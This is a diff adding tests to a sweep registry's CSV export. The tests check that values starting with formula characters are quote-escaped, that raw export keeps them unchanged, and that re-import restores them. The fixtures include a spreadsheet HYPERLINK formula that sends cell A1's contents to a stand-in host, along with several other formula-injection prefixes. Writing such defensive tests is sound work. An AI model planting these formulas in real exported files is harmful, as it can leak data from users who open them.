@@ -192,3 +192,115 @@ async def test_a_run_that_ends_meanwhile_is_written_once(registry: Registry) -> 
             await finish_run(registry, runs[0], 1.0)
             await finish_run(registry, runs[599], 1.0)
     assert [int(r["number"]) for r in table(pieces)] == list(range(600))
+
+
+FORMULA = '=HYPERLINK("http://example.com/?"&A1,"open")'
+TEXTS = [
+    FORMULA,
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\uff1d1",
+    "'=1",
+    "''=1",
+]
+HARMLESS = ["-1.5", "+2", "-inf", "a=b", "'quoted'", "'-", "-", "1e5", ""]
+
+
+async def hostile(registry: Registry) -> str:
+    """A sweep whose texts, of every kind there is, are formulas."""
+    sweep = await create_sweep(
+        registry,
+        metric={"name": "=loss"},
+        parameters={"text": {"values": TEXTS + HARMLESS}, "x": {"min": -2.0, "max": -1.0}},
+    )
+    texts = TEXTS + HARMLESS
+    points = [parameters_to_proto({"text": text, "x": -1.5}) for text in texts]
+    proposals = [pb.RunProposal(number=i, parameters=point) for i, point in enumerate(points)]
+    runs = await create_runs(registry, sweep.sweep_id, *proposals)
+    for run in runs[1:]:
+        await registry.FinishRun(
+            pb.FinishRunRequest(
+                sweep_id=sweep.sweep_id,
+                number=run.number,
+                attempt=1,
+                rows=[row(0, {"=loss": -1.25, "@other": -math.inf})],
+                succeeded=pb.RunSucceeded(),
+            )
+        )
+    await registry.UpdateRun(
+        pb.UpdateRunRequest(
+            run=run_pb2.Run(sweep_id=sweep.sweep_id, number=1, name=FORMULA),
+            update_mask={"paths": ["name"]},
+        )
+    )
+    await registry.FinishRun(
+        pb.FinishRunRequest(
+            sweep_id=sweep.sweep_id,
+            number=0,
+            attempt=1,
+            failed=pb.RunFailed(error=run_pb2.RunError(message=FORMULA)),
+        )
+    )
+    return sweep.sweep_id
+
+
+async def test_no_cell_of_a_csv_is_a_formula(registry: Registry) -> None:
+    sweep_id = await hostile(registry)
+    pieces = await export(registry, sweep_id)
+    found = table(pieces)
+    for line in [list(found[0]), *(list(cells.values()) for cells in found)]:
+        for cell in line:
+            is_number = cell.lstrip("+-").replace(".", "").isdigit() or cell in (
+                "-inf",
+                "-Infinity",
+            )
+            assert is_number or not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n\uff1d")), cell
+    assert [cells["text"] for cells in found] == [f"'{text}" for text in TEXTS] + [
+        "-1.5",
+        "+2",
+        "-inf",
+        "a=b",
+        "'quoted'",
+        "''-",
+        "'-",
+        "1e5",
+        "",
+    ]
+    assert (found[0]["error"], found[1]["name"]) == (f"'{FORMULA}", f"'{FORMULA}")
+    assert (found[1]["'=loss"], found[1]["'@other"], found[1]["x"]) == (
+        "-1.25",
+        "-Infinity",
+        "-1.5",
+    )
+
+
+async def test_raw_cells_are_as_they_were_given(registry: Registry) -> None:
+    sweep_id = await hostile(registry)
+    found = table(await export(registry, sweep_id, raw_cells=True))
+    assert [cells["text"] for cells in found] == TEXTS + HARMLESS
+    assert (found[0]["error"], found[1]["=loss"]) == (FORMULA, "-1.25")
+    # JSON lines are no table: nothing of them is a formula.
+    assert lines(await export(registry, sweep_id, json_lines=True))[1]["name"] == FORMULA
+
+
+async def test_what_was_quoted_comes_in_as_it_was(registry: Registry) -> None:
+    sweep_id = await hostile(registry)
+    text = b"".join(await export(registry, sweep_id)).decode()
+    spec = {
+        "metric": {"name": "=loss"},
+        "parameters": {"text": {"values": TEXTS + HARMLESS}, "x": {"min": -2.0, "max": -1.0}},
+    }
+    other = await create_sweep(registry, **spec)
+    await registry.ImportRuns(
+        pb.ImportRunsRequest(sweep_id=other.sweep_id, source=pb.PriorRunSource(csv=text))
+    )
+    listed = await registry.ListPriorRuns(pb.ListPriorRunsRequest(sweep_id=other.sweep_id))
+    assert [run.parameters["text"].string_value for run in listed.runs] == TEXTS + HARMLESS
+    assert [list(run.objectives) for run in listed.runs] == [[]] + [[-1.25]] * (
+        len(listed.runs) - 1
+    )
